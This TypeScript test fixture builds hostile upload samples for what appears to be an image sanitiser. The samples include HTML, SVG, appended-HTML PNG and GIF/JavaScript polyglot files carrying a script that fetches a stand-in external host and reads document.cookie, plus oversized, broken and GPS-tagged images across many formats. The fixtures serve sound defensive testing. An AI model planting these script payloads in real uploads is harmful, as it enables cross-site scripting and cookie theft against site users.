import { box, exifItem, filmOf, heicOf, xmpItem } from "./iso-media.ts";
import { exif, heic, hugePng, joined, png } from "./pictures.ts";
import {
	exifOf,
	gifExtension,
	gifOf,
	jpegOf,
	jpegSegment,
	pngChunk,
	pngOf,
	riffChunk,
	textBytes,
	webpOf,
} from "./scans.ts";

/** What a file says that runs: in the console, to somebody elsewhere, and in a box. */
export const RAN = "a file ran";
export const ELSEWHERE = "https://elsewhere.example";
const CODE = `console.log("${RAN}");fetch("${ELSEWHERE}/told");alert(document.cookie)`;
const SCRIPT = `<script>${CODE}</script>`;

/** What no file may run, and where no picture may say that it was taken. */
export const TRACES = ["<script", "GPSLatitude", "23.8103"] as const;

const TOLD = "23.8103 N <exif:GPSLatitude>23,48.618N</exif:GPSLatitude>";

const MB = 1024 * 1024;

/** A picture of so many bytes, most of them in a part that is none of the picture. */
function heavyPng(bytes: number): Uint8Array<ArrayBuffer> {
	const bare = pngOf().length;
	return pngOf([pngChunk("prVt", new Uint8Array(bytes - bare - 12))]);
}

/** A picture of a phone: turned, and with the place on earth in its EXIF, its XMP and a comment. */
const withPosition = () =>
	jpegOf([
		exifOf(6),
		exif(6, "23.8103 N 90.4125 E"),
		jpegSegment(0xe1, "http://ns.adobe.com/xap/1.0/\0<exif:GPSLatitude>23,48.618N</exif:GPSLatitude>"),
		jpegSegment(0xfe, "23.8103 N"),
	]);

/** What somebody might send instead of a picture, by what it is. */
export const HOSTILE_FILES = {
	"HTML named .png": () =>
		textBytes(`<!doctype html><html><body>${SCRIPT}<img src="${ELSEWHERE}/drawn" alt=""></body></html>`),
	"an SVG with a script": () =>
		textBytes(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}<image href="${ELSEWHERE}/drawn"/></svg>`),
	"a PNG with HTML behind it": () =>
		joined(
			png(8, 8, () => [10, 120, 60]),
			SCRIPT,
		),
	"a GIF that is a script as well": () => textBytes(`GIF89a/*${SCRIPT}*/=1;${CODE}`),
	"a byte more than 10 MB": () => heavyPng(10 * MB + 1),
	"zero bytes": () => new Uint8Array(),
	"a broken PNG": () => pngOf().slice(0, 60),
	"a PNG of 30,000 × 30,000 pixels": () => hugePng(30_000),
	"a JPEG with a GPS position": withPosition,
	"a PNG with a GPS position": () =>
		pngOf([pngChunk("eXIf", TOLD), pngChunk("iTXt", `XML:com.adobe.xmp\0\0\0\0\0${TOLD}`), pngChunk("tEXt", TOLD)]),
	"a WebP with a GPS position": () =>
		webpOf([
			riffChunk("VP8X", new Uint8Array([0x0c, 0, 0, 0, 7, 0, 0, 7, 0, 0])),
			...[riffChunk("EXIF", TOLD), riffChunk("XMP ", TOLD)],
		]),
	"a GIF with a GPS position": () => gifOf([gifExtension(0xfe, TOLD), gifExtension(0xff, "XMP DataXMP", TOLD)]),
	"a HEIC with a GPS position": () =>
		heicOf({ items: [exifItem(TOLD), xmpItem(TOLD), { ...exifItem(TOLD), within: true }], behind: box("uuid", TOLD) }),
	"an AVIF with a GPS position": () => heicOf({ brand: "avif", items: [exifItem(TOLD), xmpItem(TOLD)] }),
	"a HEIC that says too late where it was taken": () => heicOf({ items: [exifItem(TOLD)], metaLast: true }),
	"a TIFF with a GPS position": () => textBytes(`II*\0\x08\0\0\0${TOLD}`),
	"a film with a GPS position": () => filmOf(TOLD),
	"a broken HEIC": heic,
} as const satisfies Record<string, () => Uint8Array<ArrayBuffer>>;

export type HostileFile = keyof typeof HOSTILE_FILES;
